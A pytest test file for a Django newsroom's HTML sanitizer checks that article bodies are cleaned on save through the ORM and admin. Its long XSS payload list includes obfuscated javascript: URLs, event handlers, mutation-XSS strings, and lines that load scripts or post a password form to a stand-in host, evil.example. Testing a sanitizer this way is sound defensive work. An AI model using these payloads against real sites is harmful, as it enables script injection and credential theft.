import re

import html5lib
import pytest
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st

from articles.models import Article
from articles.sanitizer import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, clean_html
from tests.factories import make_article, make_section

# SECURITY.md §2 "Article HTML": never these, whatever the allowlist becomes.
FORBIDDEN_TAGS = {
    "svg", "math", "style", "noscript", "script", "iframe", "object", "embed",
    "template", "title", "textarea", "xmp", "base", "meta", "link", "form",
    "input", "button", "select", "option", "frame", "frameset", "applet",
    "video", "audio", "source", "html", "head", "body", "plaintext", "marquee",
}  # fmt: skip
SAFE_SCHEMES = {"http", "https", "mailto"}

XSS_PAYLOADS = [
    # Scripts, in and around other markup
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<p>ok</p><script>alert(1)</script><p>ok</p>",
    '<script type="module">import("//evil.example")</script>',
    "</script><script>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="/media/a.jpg" onerror="alert(1)">',
    "<p onclick=alert(1)>click</p>",
    "<a href=/x onmouseover=alert(1)>hover</a>",
    "<body onload=alert(1)>",
    '<p/onclick="alert(1)">slash</p>',
    "<p ONCLICK=alert(1)>caps</p>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    # javascript: and friends, with entity, whitespace and case tricks
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#9;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:'
    'alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<img src="javascript:alert(1)">',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    '<q cite="javascript:alert(1)">q</q>',
    # data:, file:, and other schemes
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="ftp://example.org/x">x</a>',
    # Images from another origin are not ours to show
    '<img src="https://evil.example/track.gif">',
    '<img src="//evil.example/track.gif">',
    '<img src="/media/../admin/">',
    '<img src="\\\\evil.example\\x.gif">',
    # Foreign content and embedding
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="//evil.example/x.swf"></object>',
    '<embed src="//evil.example/x.swf">',
    "<frameset><frame src=javascript:alert(1)></frameset>",
    # Style, in elements and attributes
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<span style="position:fixed;inset:0">overlay</span>',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    # Forms and document-level elements
    '<form action="//evil.example"><input name=pw><button>go</button></form>',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<select><option><img src=x onerror=alert(1)></option></select>",
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<title><img src=x onerror=alert(1)></title>",
    # Mutation XSS and parser confusion
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<a title="&quot;><img src=x onerror=alert(1)>">x</a>',
    "<p><table><img src=x onerror=alert(1)></table></p>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<div id=x class=y data-x=1 tabindex=1 contenteditable>attrs</div>",
    '<a href="/ok" target="_blank" rel="opener" ping="//evil">x</a>',
]


def elements(html):
    fragment = html5lib.parseFragment(html, namespaceHTMLElements=False)
    return list(fragment.iter())[1:]  # the first is the fragment's own root


def scheme(url):
    """The scheme a browser would see: control characters and spaces ignored."""
    url = re.sub(r"[\x00-\x20\x7f]", "", url).lower()
    match = re.match(r"^([a-z][a-z0-9+.\-]*):", url)
    return match.group(1) if match else None


def assert_safe(html):
    for element in elements(html):
        tag = element.tag
        assert isinstance(tag, str), f"unexpected node {tag!r} in {html!r}"
        assert tag not in FORBIDDEN_TAGS, html
        assert tag in ALLOWED_TAGS, html
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | (
            {"rel"} if tag == "a" else set()
        )
        for name, value in element.attrib.items():
            assert name in allowed, f"{name} on <{tag}> in {html!r}"
            assert not name.lower().startswith("on"), html
            if name in {"href", "src", "cite"}:
                found = scheme(value)
                assert found is None or found in SAFE_SCHEMES, html
        if tag == "a":
            assert element.get("rel") == "noopener noreferrer", html
        if tag == "img" and "src" in element.attrib:
            assert element.get("src").startswith("/media/"), html


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_hostile_markup_leaves_nothing_dangerous(payload):
    cleaned = clean_html(payload)

    assert_safe(cleaned)
    assert "<script" not in cleaned.lower()
    assert clean_html(cleaned) == cleaned


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<style>p{color:red}alert(1)</style>",
        "<svg><text>alert(1)</text></svg>",
        "<math><mi>alert(1)</mi></math>",
        "<iframe>alert(1)</iframe>",
        "<template>alert(1)</template>",
        "<noscript>alert(1)</noscript>",
        "<textarea>alert(1)</textarea>",
        "<xmp>alert(1)</xmp>",
    ],
)
def test_code_and_foreign_content_is_dropped_with_its_text(payload):
    assert "alert" not in clean_html(f"<p>before</p>{payload}<p>after</p>")


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p>Plain <strong>bold</strong> text.</p>", None),
        ("<h2>Heading</h2><h3>Sub</h3><h4>Minor</h4>", None),
        ('<ul><li>one</li></ul><ol start="3"><li>three</li></ol>', None),
        (
            '<a href="https://example.org/a?b=1&amp;c=2" title="t">x</a>',
            '<a href="https://example.org/a?b=1&amp;c=2" title="t" '
            'rel="noopener noreferrer">x</a>',
        ),
        (
            '<a href="mailto:desk@example.org">mail</a>',
            '<a href="mailto:desk@example.org" rel="noopener noreferrer">mail</a>',
        ),
        (
            '<a href="/2026/01/02/story/">rel</a>',
            '<a href="/2026/01/02/story/" rel="noopener noreferrer">rel</a>',
        ),
        (
            '<figure><img src="/media/uploads/2026/01/a.jpg" alt="A port">'
            "<figcaption>The port</figcaption></figure>",
            None,
        ),
        (
            '<table><thead><tr><th scope="col">Year</th></tr></thead>'
            "<tbody><tr><td>2026</td></tr></tbody></table>",
            None,
        ),
        ("<pre><code>x &lt; y</code></pre>", None),
        ("<blockquote><p>Quoted.</p></blockquote>", None),
        ('<p>북한 <abbr title="Democratic People\'s Republic">DPRK</abbr></p>', None),
    ],
)
def test_newsroom_markup_survives(html, expected):
    cleaned = clean_html(html)
    if expected is None:
        # Same DOM as the input (attribute quoting may differ).
        assert [(e.tag, dict(e.attrib), e.text) for e in elements(cleaned)] == [
            (e.tag, dict(e.attrib), e.text) for e in elements(html)
        ]
    else:
        assert cleaned == expected
    assert_safe(cleaned)


def test_links_get_rel_even_when_they_carry_their_own():
    cleaned = clean_html('<a href="/x" rel="opener">x</a>')
    (link,) = elements(cleaned)
    assert link.get("rel") == "noopener noreferrer"


def test_image_source_follows_media_url(settings):
    settings.MEDIA_URL = "https://media.newsroom.example/"

    assert clean_html('<img src="https://media.newsroom.example/a.jpg">') == (
        '<img src="https://media.newsroom.example/a.jpg">'
    )
    assert clean_html('<img src="/media/a.jpg">') == "<img>"
    assert clean_html('<img src="https://evil.example/a.jpg">') == "<img>"


@pytest.mark.parametrize("empty", [None, "", "<p></p>", "<p><br></p>", "  <p></p> "])
def test_empty_editor_output_is_stored_as_empty_string(empty):
    assert clean_html(empty) == ""


HTML_TOKENS = st.sampled_from(
    [
        "<", ">", "</", "/>", "=", '"', "'", "`", "&", "&#", "&#x", ";", "\t", "\n",
        "\x00", " ", "<!--", "-->", "<![CDATA[", "]]>", "<p>", "</p>", "<a href=",
        "javascript:", "java&#x09;script:", "data:", "<img src=", "/media/",
        "onerror=", "onclick=", " on", "style=", "<script>", "</script>", "<svg>",
        "<math>", "<style>", "<iframe>", "<noscript>", "<template>", "<table>",
        "<select>", "<textarea>", "<xmp>", "<title>", "<b>", "<li>", "alert(1)",
        "<scr", "ipt>", "SCRIPT", "<h2>", "<pre>", "<code>", "<figure>",
    ]
)  # fmt: skip
HTMLISH = st.lists(HTML_TOKENS | st.text(max_size=8), max_size=40).map("".join)


def has_event_attribute(html):
    return any(
        name.lower().startswith("on")
        for element in elements(html)
        for name in element.attrib
    )


@settings(max_examples=300, deadline=None)
@given(st.text() | HTMLISH)
def test_cleaned_output_never_carries_script_or_handlers(text):
    cleaned = clean_html(text)
    assert "<script" not in cleaned.lower()
    assert not has_event_attribute(cleaned)
    assert_safe(cleaned)


@settings(max_examples=300, deadline=None)
@given(st.text() | HTMLISH)
def test_cleaning_twice_changes_nothing(text):
    once = clean_html(text)
    assert clean_html(once) == once


HOSTILE_BODY = (
    '<p onclick="steal()">Hello <script>alert(1)</script>'
    '<a href="jav&#x09;ascript:alert(1)">link</a></p>'
    '<img src="https://evil.example/t.gif" onerror="alert(1)">'
    '<svg onload="alert(1)"></svg><p style="color:red">red</p>'
)


def test_saving_through_the_orm_stores_cleaned_html(db):
    story = make_article(body=HOSTILE_BODY)
    story.refresh_from_db()

    assert story.body == clean_html(HOSTILE_BODY)
    assert story.body == (
        '<p>Hello <a rel="noopener noreferrer">link</a></p><img><p>red</p>'
    )
    assert_safe(story.body)


def test_queryset_create_and_field_clean_both_sanitise(db):
    story = Article.objects.create(
        headline="Direct", slug="direct", section=make_section(), body=HOSTILE_BODY
    )
    assert Article.objects.get(pk=story.pk).body == clean_html(HOSTILE_BODY)

    field = Article._meta.get_field("body")
    assert field.clean(HOSTILE_BODY, story) == clean_html(HOSTILE_BODY)


def test_saving_through_the_admin_change_form_stores_cleaned_html(db, admin_client):
    story = make_article(headline="Calm story", slug="calm-story")

    response = admin_client.post(
        reverse("admin:articles_article_change", args=[story.pk]),
        {
            "headline": story.headline,
            "slug": story.slug,
            "dek": story.dek,
            "body": HOSTILE_BODY,
            "section": str(story.section_id),
            "language": story.language,
            "tags": "",
            "status": "published",
            "published_at_0": "2026-01-02",
            "published_at_1": "09:30:00",
            "version": str(story.version),
            "bylines-TOTAL_FORMS": "0",
            "bylines-INITIAL_FORMS": "0",
            "bylines-MIN_NUM_FORMS": "0",
            "bylines-MAX_NUM_FORMS": "1000",
        },
    )

    assert response.status_code == 302
    story.refresh_from_db()
    assert story.body == clean_html(HOSTILE_BODY)
    assert_safe(story.body)
